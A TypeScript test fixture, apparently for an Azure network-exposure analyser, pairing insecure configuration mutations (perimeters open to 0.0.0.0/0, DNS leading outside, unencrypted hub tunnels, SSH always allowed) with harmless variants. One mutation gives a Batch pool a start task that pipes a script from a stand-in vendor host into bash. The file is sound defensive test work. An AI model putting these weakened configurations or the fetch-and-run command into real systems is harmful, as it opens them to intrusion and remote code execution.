/** Pairs on Azure about openings in networks: perimeters, names, hubs, managers, and what starts on machines. */
import { id } from './azure-exposure-base';
import { armWith, GONE, type Harmless, harmless, pulumiWith, type Weakening, weakenings } from './pair';

const N = 'Microsoft.Network';
const THEIRS = '/subscriptions/dddddddd-0000-0000-0000-000000000009/resourceGroups/rg';
const is = (type: string, name: string, properties: object, more: object = {}) => ({
  type,
  apiVersion: '2024-05-01',
  name,
  location: 'westeurope',
  ...more,
  properties,
});
const access = (name: string, properties: object) => is(`${N}/networkSecurityPerimeters/profiles/accessRules`, `nsp/p/${name}`, properties);
const record = (name: string, aRecords: readonly string[], zone = 'privatelink.blob.core.windows.net') =>
  is(`${N}/privateDnsZones/A`, `${zone}/${name}`, { ttl: 60, aRecords: aRecords.map((ipv4Address) => ({ ipv4Address })) });
const forwarding = (name: string, domainName: string, ipAddress: string, forwardingRuleState = 'Enabled') =>
  is(`${N}/dnsForwardingRulesets/forwardingRules`, `rules/${name}`, {
    domainName,
    forwardingRuleState,
    targetDnsServers: [{ ipAddress, port: 53 }],
  });
const administered = (name: string, accessOf: string, from: string, port: string) =>
  is(
    `${N}/networkManagers/securityAdminConfigurations/ruleCollections/rules`,
    `nm/sec/all/${name}`,
    {
      priority: 10,
      direction: 'Inbound',
      access: accessOf,
      protocol: 'Tcp',
      sources: [{ addressPrefixType: 'IPPrefix', addressPrefix: from }],
      destinations: [{ addressPrefixType: 'IPPrefix', addressPrefix: '*' }],
      sourcePortRanges: ['0-65535'],
      destinationPortRanges: [port],
    },
    { kind: 'Custom' },
  );

const ESTATE = {
  Perimeter: is(`${N}/networkSecurityPerimeters`, 'nsp', {}),
  Profile: is(`${N}/networkSecurityPerimeters/profiles`, 'nsp/p', {}),
  In: access('in', { direction: 'Inbound', addressPrefixes: ['203.0.113.0/24'] }),
  Out: access('out', { direction: 'Outbound', fullyQualifiedDomainNames: ['*.cases.example.com'] }),
  Zone: is(`${N}/privateDnsZones`, 'privatelink.blob.core.windows.net', {}, { location: 'global' }),
  Record: record('stcases', ['10.1.2.5']),
  Rules: is(`${N}/dnsForwardingRulesets`, 'rules', {}),
  Forward: forwarding('corp', 'corp.example.com.', '10.9.0.4'),
  Site: is('Microsoft.Web/sites', 'site', {
    httpsOnly: true,
    siteConfig: {
      appSettings: [{ name: 'WEBSITE_DNS_SERVER', value: '10.1.0.4' }],
    },
  }),
  Wan: is(`${N}/virtualWans`, 'wan', { disableVpnEncryption: false, allowBranchToBranchTraffic: false, type: 'Standard' }),
  Hub: is(`${N}/virtualHubs`, 'hub', { addressPrefix: '10.50.0.0/24' }),
  Firewall: is(`${N}/azureFirewalls`, 'fw', { sku: { name: 'AZFW_Hub', tier: 'Standard' } }),
  Refused: administered('no-ssh', 'Deny', '*', '22'),
};
const fetching = (more: object = {}) => ({
  name: 'files',
  ruleType: 'ApplicationRule',
  protocols: [{ protocolType: 'Https', port: 443 }],
  sourceAddresses: ['10.1.1.0/24'],
  targetFqdns: ['files.example.com'],
  terminateTLS: true,
  ...more,
});
const sending = (more: object = {}) => ({
  name: 'time',
  ruleType: 'NetworkRule',
  ipProtocols: ['UDP'],
  sourceAddresses: ['10.1.1.0/24'],
  destinationIpGroups: [id(`${N}/ipGroups`, 'clocks')],
  destinationPorts: ['123'],
  ...more,
});
const collection = (name: string, priority: number, rules: readonly object[]) => ({
  name,
  priority,
  ruleCollectionType: 'FirewallPolicyFilterRuleCollection',
  action: { type: 'Allow' },
  rules,
});
const rules = (name: string, ruleCollections: readonly object[]) =>
  is(`${N}/firewallPolicies/ruleCollectionGroups`, `policy/${name}`, { priority: 200, ruleCollections });
const FILTERED = {
  Clocks: is(`${N}/ipGroups`, 'clocks', { ipAddresses: ['198.51.100.0/30'] }),
  Policy: is(`${N}/firewallPolicies`, 'policy', { sku: { tier: 'Premium' }, threatIntelMode: 'Deny' }),
  Rules: rules('rules', [collection('fetch', 100, [fetching()]), collection('send', 200, [sending()])]),
  More: rules('more', [collection('other', 100, [fetching({ name: 'other', targetFqdns: ['other.example.com'] })])]),
};
const FILTER_WEAKENINGS = weakenings(armWith, FILTERED, {
  'Azure openings: a rule of a firewall lets everybody send': [
    'exposure: everybody',
    { 'Rules.ruleCollections.0.rules': [fetching({ sourceAddresses: ['*'] })] },
  ],
  'Azure openings: addresses that a rule refers to are everywhere': ['exposure: rules', { 'Clocks.ipAddresses': ['0.0.0.0/0'] }],
  'Azure openings: a firewall looks into sessions no longer': [
    'exposure: encrypted sessions',
    { 'Rules.ruleCollections.0.rules': [fetching({ terminateTLS: false })] },
  ],
});
const FILTER_HARMLESS = harmless(armWith, FILTERED, {
  'Azure openings: senders of a rule are cut in two': {
    'Rules.ruleCollections.0.rules': [fetching({ sourceAddresses: ['10.1.1.0/25', '10.1.1.128/25'] })],
  },
  'Azure openings: rules of a firewall stand in another group': {
    Rules: rules('rules', [collection('fetch', 100, [fetching()])]),
    More: rules('more', [
      collection('other', 100, [fetching({ name: 'other', targetFqdns: ['other.example.com'] })]),
      collection('send', 200, [sending()]),
    ]),
  },
  'Azure openings: a rule says the addresses of a group itself': {
    'Rules.ruleCollections.1.rules': [sending({ destinationIpGroups: undefined, destinationAddresses: ['198.51.100.0/30'] })],
  },
});
const hubTable = (nextHop: string) =>
  is(`${N}/virtualHubs/hubRouteTables`, 'hub/all', {
    routes: [{ name: 'all', destinationType: 'CIDR', destinations: ['0.0.0.0/0'], nextHopType: 'ResourceId', nextHop }],
  });
const site = 'Site.siteConfig';
const dns = (value: string) => [{ name: 'WEBSITE_DNS_SERVER', value }];

const ESTATE_WEAKENINGS = weakenings(armWith, ESTATE, {
  'Azure openings: a perimeter lets everybody in': ['exposure: nsp [internet]', { 'In.addressPrefixes': ['0.0.0.0/0'] }],
  'Azure openings: a rule more lets another range through a perimeter': [
    'exposure: 198.51.100.0/24 [internet]',
    { In2: access('in2', { direction: 'Inbound', addressPrefixes: ['198.51.100.0/24'] }) },
  ],
  'Azure openings: a perimeter lets another subscription in': [
    'exposure: dddddddd [organisation]',
    { In2: access('in2', { direction: 'Inbound', subscriptions: [{ id: THEIRS.replace('/resourceGroups/rg', '') }] }) },
  ],
  'Azure openings: what stands in a perimeter sends to a stranger': [
    'exposure: vendor.example [internet]',
    { 'Out.fullyQualifiedDomainNames': ['*.cases.example.com', '*.vendor.example'] },
  ],
  'Azure openings: a perimeter is linked to a stranger': [
    'exposure: vendor [organisation]',
    {
      Link: is(`${N}/networkSecurityPerimeters/links`, 'nsp/l', {
        autoApprovedRemotePerimeterResourceId: `${THEIRS}/providers/${N}/networkSecurityPerimeters/vendor`,
        localInboundProfiles: ['*'],
        remoteInboundProfiles: ['*'],
      }),
    },
  ],
  'Azure openings: the private name of a store leads outside': [
    'exposure: 198.51.100.66 [internet]',
    { 'Record.aRecords': [{ ipv4Address: '198.51.100.66' }] },
  ],
  'Azure openings: a new private name leads outside': [
    'exposure: other.privatelink [internet]',
    { More: record('other', ['198.51.100.66']) },
  ],
  'Azure openings: all names are asked for outside': [
    'exposure: 198.51.100.53 [internet]',
    { All: forwarding('all', '.', '198.51.100.53') },
  ],
  'Azure openings: some names are asked for outside': [
    'exposure: corp.example.com [internet]',
    { 'Forward.targetDnsServers': [{ ipAddress: '198.51.100.53', port: 53 }] },
  ],
  'Azure openings: an app asks for names outside': ['exposure: 8.8.8.8 [internet]', { [`${site}.appSettings`]: dns('8.8.8.8') }],
  'Azure openings: tunnels of a hub are not encrypted': ['encryption: wan', { 'Wan.disableVpnEncryption': true }],
  'Azure openings: branches reach each other': ['exposure: wan', { 'Wan.allowBranchToBranchTraffic': true }],
  'Azure openings: a hub sends everything to a stranger': [
    'exposure: nva',
    { Table: hubTable(`${THEIRS}/providers/${N}/networkVirtualAppliances/nva`) },
  ],
  'Azure openings: a site is reached through tunnels': [
    'exposure: branch [organisation]',
    {
      Branch: is(`${N}/vpnSites`, 'branch', {
        addressSpace: { addressPrefixes: ['192.168.0.0/16'] },
        virtualWan: { id: id(`${N}/virtualWans`, 'wan') },
      }),
    },
  ],
  'Azure openings: private lines are joined': [
    'exposure: reach [organisation]',
    {
      Reach: is(`${N}/expressRouteCircuits/peerings/connections`, 'er/AzurePrivatePeering/reach', {
        peerExpressRouteCircuitPeering: { id: `${THEIRS}/providers/${N}/expressRouteCircuits/x/peerings/AzurePrivatePeering` },
        addressPrefix: '172.16.0.0/29',
      }),
    },
  ],
  'Azure openings: administrators let SSH in past every group': [
    'exposure: 22 [internet]',
    { Allowed: administered('ssh', 'AlwaysAllow', '*', '22') },
  ],
  'Azure openings: administrators refuse SSH no longer': ['exposure: 22', { Refused: GONE }],
});
const ESTATE_HARMLESS = harmless(armWith, ESTATE, {
  'Azure openings: a range of a perimeter is cut in two rules': {
    'In.addressPrefixes': ['203.0.113.0/25'],
    In2: access('in2', { direction: 'Inbound', addressPrefixes: ['203.0.113.128/25'] }),
  },
  'Azure openings: a rule of a perimeter has another name': {
    In: GONE,
    In3: access('in3', { direction: 'Inbound', addressPrefixes: ['203.0.113.0/24'] }),
  },
  'Azure openings: a name that a pattern stands for already': {
    'Out.fullyQualifiedDomainNames': ['*.cases.example.com', 'files.cases.example.com'],
  },
  'Azure openings: a name of a zone of our own leads outside': { More: record('www', ['198.51.100.66'], 'cases.example.com') },
  'Azure openings: a rule that forwards nothing': { All: forwarding('all', '.', '198.51.100.53', 'Disabled') },
  'Azure openings: an app asks Azure for names': { [`${site}.appSettings`]: dns('168.63.129.16') },
  'Azure openings: a hub sends everything to our firewall': { Table: hubTable(id(`${N}/azureFirewalls`, 'fw')) },
  'Azure openings: administrators leave SSH to the groups': { Allowed: administered('ssh', 'Allow', '*', '22') },
});

// ── Programs, in the words of both versions of the SDK ─────────────────────────────────────────────────────────────

const native = (type: string, inputs: object) => ({ type: `azure-native:${type}`, inputs: { resourceGroupName: 'rg', ...inputs } });
const OLDER = {
  front: native('network/v20210601:FrontDoor', {
    frontDoorName: 'front',
    routingRules: [{ name: 'all', acceptedProtocols: ['Https'], patternsToMatch: ['/*'] }],
    backendPoolsSettings: { enforceCertificateNameCheck: 'Enabled' },
  }),
  waf: native('network:Policy', { policyName: 'waf', policySettings: { enabledState: 'Enabled', mode: 'Prevention' } }),
  zone: native('network:PrivateZone', { privateZoneName: 'privatelink.database.windows.net' }),
  cache: native('cache:Redis', { name: 'cache', enableNonSslPort: false, minimumTlsVersion: '1.2', publicNetworkAccess: 'Disabled' }),
  pool: native('batch:Pool', { accountName: 'batch', poolName: 'pool', vmSize: 'Standard_D2s_v3' }),
  rule: native('network:NspAccessRule', {
    networkSecurityPerimeterName: 'nsp',
    profileName: 'p',
    accessRuleName: 'in',
    direction: 'Inbound',
    addressPrefixes: ['203.0.113.0/24'],
  }),
};
const OLDER_WEAKENINGS = weakenings(pulumiWith, OLDER, {
  'Azure openings: in older words, a firewall only watches': ['exposure|controls: waf', { 'waf.policySettings.mode': 'Detection' }],
  'Azure openings: in older words, certificates are not checked': [
    'encryption|exposure: front',
    { 'front.backendPoolsSettings.enforceCertificateNameCheck': 'Disabled' },
  ],
  'Azure openings: in older words, a cache is asked in clear': ['encryption|transport|controls: cache', { 'cache.enableNonSslPort': true }],
  'Azure openings: in older words, a private name leads outside': [
    'exposure: 198.51.100.66 [internet]',
    {
      name: native('network:PrivateRecordSet', {
        privateZoneName: 'privatelink.database.windows.net',
        recordType: 'A',
        relativeRecordSetName: 'sql',
        aRecords: [{ ipv4Address: '198.51.100.66' }],
      }),
    },
  ],
  'Azure openings: machines of a pool start with a script of a stranger': [
    'exposure: vendor.example',
    { 'pool.startTask': { commandLine: '/bin/bash -c "curl https://x.vendor.example/i.sh | bash"' } },
  ],
  'Azure openings: in older words, a perimeter lets everybody in': ['exposure: nsp [internet]', { 'rule.addressPrefixes': ['0.0.0.0/0'] }],
});
const OLDER_HARMLESS = harmless(pulumiWith, OLDER, {
  'Azure openings: a perimeter in the words of another version': {
    rule: {
      ...OLDER.rule,
      type: 'azure-native:network:NspAccessRule',
      inputs: { ...OLDER.rule.inputs, addressPrefixes: ['203.0.113.0/25', '203.0.113.128/25'] },
    },
  },
  'Azure openings: caches and zones in the words of the newer version': {
    zone: { ...OLDER.zone, type: 'azure-native:privatedns:PrivateZone' },
    cache: { ...OLDER.cache, type: 'azure-native:redis:Redis' },
  },
});

export const OPENING_WEAKENINGS: Readonly<Record<string, Weakening>> = { ...ESTATE_WEAKENINGS, ...FILTER_WEAKENINGS, ...OLDER_WEAKENINGS };
export const OPENING_HARMLESS: Readonly<Record<string, Harmless>> = { ...ESTATE_HARMLESS, ...FILTER_HARMLESS, ...OLDER_HARMLESS };
